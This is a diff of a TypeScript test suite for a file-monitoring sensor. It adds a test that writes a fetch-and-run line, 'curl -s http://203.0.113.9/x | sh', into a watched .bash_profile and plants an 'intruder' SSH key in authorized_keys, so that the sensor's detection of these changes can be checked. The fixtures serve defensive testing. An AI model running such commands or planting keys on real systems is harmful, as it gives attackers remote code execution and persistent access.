@@ -166,6 +166,26 @@ describe.each([
     await waitFor("MODIFY in a new subdirectory", () => find(sink, FileAction.FILE_ACTION_MODIFY, join(watched, "new", "deeper", "c")));
   });
 
+  it("watches a configured file that does not exist yet (a ~/.bash_profile not written) and reports its creation, but not its neighbours", async () => {
+    const profile = join(watched, ".bash_profile");
+    const sink = new RecordingSink();
+    sensor = new FileSensor({ paths: [profile, join(watched, ".ssh"), join(watched, "no-such-dir", ".bashrc")], renameWindowMs: 100, ...extra });
+    await sensor.start(sink);
+    expect(sensor.health().detail).toContain(`absent: ${profile}`);
+    writeFileSync(join(watched, ".bashrc"), "not watched\n");
+    writeFileSync(profile, "curl -s http://203.0.113.9/x | sh\n");
+    const created = await waitFor("CREATE of the awaited file", () => find(sink, FileAction.FILE_ACTION_CREATE, profile));
+    expect(created.sha256After).toBe(sha("curl -s http://203.0.113.9/x | sh\n"));
+    writeFileSync(profile, "changed\n");
+    await waitFor("MODIFY of the awaited file", () => find(sink, FileAction.FILE_ACTION_MODIFY, profile));
+    expect(fileEvents(sink).map((e) => e.path)).not.toContain(join(watched, ".bashrc"));
+    // An awaited directory: created later, the files written into it are reported.
+    mkdirSync(join(watched, ".ssh"));
+    const keys = join(watched, ".ssh", "authorized_keys");
+    writeFileSync(keys, "ssh-ed25519 AAAA intruder\n");
+    await waitFor("CREATE inside the awaited directory", () => find(sink, FileAction.FILE_ACTION_CREATE, keys));
+  });
+
   it("survives a corrupt saved baseline: reports it and rebuilds", async () => {
     writeFileSync(join(state, "file-baseline.json"), "{not json");
     writeFileSync(join(watched, "a"), "a");
@@ -234,7 +254,7 @@ describe("FileSensor with a kernel feed running", () => {
 
   it("examines a path the kernel names even where no directory watch is", async () => {
     const watched = mkdtempSync(join(tmpdir(), "vigil-watch-"));
-    let listener: ((p: string) => void) | undefined;
+    let listener: ((p: string, written: boolean) => void) | undefined;
     const sink = new RecordingSink();
     const sensor = new FileSensor({ paths: [join(watched, "root")], kernel: { ready: async () => true, onChange: (l) => ((listener = l), () => (listener = undefined)) } });
     mkdirSync(join(watched, "root"));
@@ -244,8 +264,8 @@ describe("FileSensor with a kernel feed running", () => {
       rmSync(join(watched, "root"), { recursive: true });
       mkdirSync(join(watched, "root"));
       writeFileSync(join(watched, "root", "planted"), "x");
-      listener?.(`${watched}//root/./planted`);
-      listener?.(join(watched, "elsewhere"));
+      listener?.(`${watched}//root/./planted`, true);
+      listener?.(join(watched, "elsewhere"), true);
       await waitFor("CREATE from the kernel's path", () => find(sink, FileAction.FILE_ACTION_CREATE, join(watched, "root", "planted")));
       expect(fileEvents(sink).map((e) => e.path)).toEqual([join(watched, "root", "planted")]);
     } finally {
